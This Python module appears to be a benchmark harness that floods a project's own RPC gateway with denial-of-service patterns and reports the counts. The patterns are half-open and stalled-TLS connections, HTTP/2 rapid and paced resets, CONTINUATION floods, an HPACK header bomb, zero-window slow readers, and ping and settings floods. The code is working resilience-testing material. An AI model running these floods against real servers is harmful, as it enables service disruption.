"""The attackers of `bench.floods`: `python -m bench.flooding FLOOD ADDRESS HOME PEER_FILE`.

Says a line when the flood has begun, goes on until standard input ends, and then says what it has done. What it holds
open it makes anew as the other side lets go of it.
"""

from __future__ import annotations

import json
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from datetime import UTC, datetime
from pathlib import Path

from gateway.rpc.identity import Identity, load_identity
from gateway.rpc.streams import CATALOG_METHOD
from mesh.shares import PeerState
from mesh.trust.leaf import PeerTrust
from mesh.trust.peerfile import parse_peer_file
from tests.threats import http2
from tests.threats.http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, SETTINGS, Rude

HALF_OPEN = 5000
CONNECTIONS, STREAMS = 16, 64
Done = dict[str, int]


class Scene:
    def __init__(self, address: str, identity: Identity, trust: PeerTrust) -> None:
        self.address, self.identity, self.trust = address, identity, trust
        self.done: Done = {}

    @property
    def place(self) -> tuple[str, int]:
        host, _, port = self.address.rpartition(":")
        return host, int(port)

    def count(self, what: str, more: int = 1) -> None:
        self.done[what] = self.done.get(what, 0) + more


def hello_bytes() -> bytes:
    """A ClientHello, after which nothing comes."""
    out = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="gateway").do_handshake()
    return out.read()


def half_open(scene: Scene, first: bytes = b"") -> Iterator[None]:
    """Connections that say `first` and nothing more."""
    held: list[socket.socket] = []
    while True:
        for _ in range(min(100, HALF_OPEN - len(held))):
            with suppress(OSError):
                one = socket.create_connection(scene.place, 5)
                one.sendall(first)
                one.setblocking(False)
                held.append(one)
                scene.count("connections")
        held = [one for one in held if _is_open(one, scene)]
        scene.done["held"] = len(held)
        yield


def _is_open(one: socket.socket, scene: Scene) -> bool:
    try:
        if one.recv(4096):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    one.close()
    scene.count("hung up on")
    return False


def over_and_over(scene: Scene, act: Callable[[Rude, int], bytes], settings: bytes = b"") -> Iterator[None]:
    """On one connection, made anew where it is cut: what `act` gives for each next stream."""
    while True:
        with suppress(OSError, ssl.SSLError), http2.connected(scene.address, scene.identity, scene.trust) as rude:
            scene.count("connections")
            rude.send(http2.frame(SETTINGS, payload=settings))
            for stream in range(1, 1 << 30, 2):
                if not rude.send(act(rude, stream)):
                    break
                scene.count("sent")
                if stream % 128 == 127:
                    rude.answer()
                    yield
        yield


def waiting(scene: Scene, settings: bytes = b"") -> Iterator[None]:
    """Many connections, each with all the streams it may have, that say nothing."""
    while True:
        with ExitStack() as stack:
            for _ in range(CONNECTIONS):
                rude = stack.enter_context(http2.connected(scene.address, scene.identity, scene.trust))
                rude.send(
                    http2.frame(SETTINGS, payload=settings) + b"".join(map(http2.opened, range(1, 2 * STREAMS, 2)))
                )
                scene.count("streams", STREAMS)
            until = time.monotonic() + 11
            while time.monotonic() < until:
                time.sleep(0.05)
                yield


def paced_resets(scene: Scene) -> Iterator[None]:
    """Streams that are reset once their handlers run: what a flood of resets in one packet never gets to."""
    while True:
        with suppress(OSError, ssl.SSLError), http2.connected(scene.address, scene.identity, scene.trust) as rude:
            scene.count("connections")
            for first in range(1, 1 << 30, 2 * STREAMS):
                streams = range(first, first + 2 * STREAMS, 2)
                if not rude.send(b"".join(map(http2.opened, streams))):
                    break
                time.sleep(0.02)
                scene.count("refused", rude.answer().get(http2.RST_STREAM, 0))
                if not rude.send(b"".join(map(http2.reset, streams))):
                    break
                scene.count("resets", STREAMS)
                rude.answer()
                yield
        yield


def calls(scene: Scene) -> Iterator[None]:
    """Whole calls, as many as are taken."""
    while True:
        with suppress(OSError, ssl.SSLError), http2.connected(scene.address, scene.identity, scene.trust) as rude:
            for first in range(1, 1 << 30, 2 * STREAMS):
                streams = range(first, first + 2 * STREAMS, 2)
                asked = (
                    http2.opened(each, CATALOG_METHOD) + http2.frame(http2.DATA, END_STREAM, each, bytes(5))
                    for each in streams
                )
                if not rude.send(b"".join(asked)):
                    break
                scene.count("calls", STREAMS)
                refused = rude.answer(0.05).get(http2.RST_STREAM, 0)
                scene.count("refused", refused)
                yield
        yield


def block(more: bytes) -> Callable[[Rude, int], bytes]:
    return lambda _, stream: http2.frame(HEADERS, END_HEADERS, stream, http2.call() + more)


def continuation(_: Rude, stream: int) -> bytes:
    begin = http2.frame(HEADERS, 0, 1, http2.call()) if stream == 1 else b""
    return begin + http2.frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x01" + b"b" * 128)


LARGE = b"\x40\x01a\x7f\xe1\x1e" + b"b" * 4000 + b"\xbe" * 4000
"""A header of 4 kB kept in the table, and named 4,000 times: 16 MB in 8 kB."""
NO_WINDOW = b"\x00\x04\x00\x00\x00\x00"

FLOODS: dict[str, Callable[[Scene], Iterator[None]]] = {
    "half-open": half_open,
    "unfinished-tls": lambda scene: half_open(scene, hello_bytes()),
    "silent-streams": waiting,
    "slow-readers": lambda scene: waiting(scene, NO_WINDOW),
    "rapid-reset": lambda scene: over_and_over(scene, lambda _, s: http2.opened(s) + http2.reset(s)),
    "paced-reset": paced_resets,
    "calls": calls,
    "pings": lambda scene: over_and_over(scene, lambda *_: http2.frame(PING, payload=bytes(8))),
    "settings": lambda scene: over_and_over(scene, lambda *_: http2.frame(SETTINGS, payload=NO_WINDOW)),
    "continuation": lambda scene: over_and_over(scene, continuation),
    "header-bomb": lambda scene: over_and_over(scene, block(LARGE)),
}


def main() -> None:
    flood, address, home, file = sys.argv[1:]
    keys = Path(home) / "keys"
    bundle = parse_peer_file(Path(file).read_text(), datetime.now(UTC)).bundle
    identity = load_identity(keys / "gateway.pem", keys / "gateway.key")
    scene = Scene(address, identity, PeerTrust(PeerState.ACTIVE, bundle))
    steps = FLOODS[flood](scene)
    next(steps)
    print("begun", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        next(steps)
    print(json.dumps(scene.done), flush=True)


if __name__ == "__main__":
    main()
